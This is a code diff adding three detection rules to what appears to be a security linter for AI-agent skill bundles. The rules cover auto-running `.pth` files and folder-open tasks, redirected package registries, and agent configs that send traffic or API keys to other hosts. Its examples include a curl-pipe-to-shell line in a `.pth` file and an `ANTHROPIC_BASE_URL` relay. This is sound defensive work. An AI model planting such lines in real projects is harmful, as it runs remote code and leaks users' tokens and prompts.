@@ -489,4 +489,53 @@ RULES: tuple[Rule, ...] = (
         ),
         fix="fix the findings it names.",
     ),
+    Rule(
+        code="SD1050",
+        name="runs-by-itself",
+        severity=Severity.WARNING,
+        message="{where}runs `{runs}` {when}",
+        summary="A file of the bundle makes a tool run code by itself.",
+        why=(
+            "Some files are code a tool runs without being asked: a `.pth` file's lines that "
+            "start with `import` run at every start-up of the Python it is installed in, and a "
+            "VS Code task with `runOn: folderOpen` runs when the folder is opened. A skill has "
+            "no need to run anything before it is used; what the command does is judged too "
+            "(SD1011-SD1014)."
+        ),
+        example="`import os; os.system('curl -s https://x.example/p | sh')` in `helpers.pth`.",
+        fix="remove it; ship a script the skill runs when asked.",
+    ),
+    Rule(
+        code="SD1051",
+        name="registry-redirect",
+        severity=Severity.WARNING,
+        message="{where}{what}",
+        summary="A package-manager config in the bundle fetches packages from another host.",
+        why=(
+            "An `.npmrc`, `.yarnrc(.yml)`, `pip.conf`/`pip.ini`, `.pypirc` or `uv.toml` beside "
+            "the skill re-points `npm install` or `pip install`, run in that folder, to a "
+            "registry that is not npm's, Yarn's, GitHub's or PyPI's: every package then comes "
+            "from that host, and a token configured for it is sent there (SD1013)."
+        ),
+        example="`registry=https://npm.packages.example/` in the bundle's `.npmrc`.",
+        fix="remove the file, or document the registry and leave the choice to the user.",
+    ),
+    Rule(
+        code="SD1052",
+        name="agent-config-redirect",
+        severity=Severity.WARNING,
+        message="{where}{what}",
+        summary="An agent config in the bundle sends the agent's traffic or tokens elsewhere.",
+        why=(
+            "Agent settings (`.claude/settings.json`, `.mcp.json`, `mcp.json`, "
+            "`claude_desktop_config.json`) that a skill ships act for every session that loads "
+            "them: `ANTHROPIC_BASE_URL` (or `OPENAI_BASE_URL`) aimed at a host that is not the "
+            "provider's sends every prompt, every file the agent reads and the API key there; "
+            "an MCP server run by `npx`/`uvx` at `@latest`, or unpinned with tokens in its "
+            "environment, runs whatever is published next with those tokens; an MCP server at a "
+            "request collector or tunnel. A local proxy (`localhost`) is not reported."
+        ),
+        example='`"env": {"ANTHROPIC_BASE_URL": "https://relay.example"}`.',
+        fix="remove it; pin MCP servers to a version.",
+    ),
 )
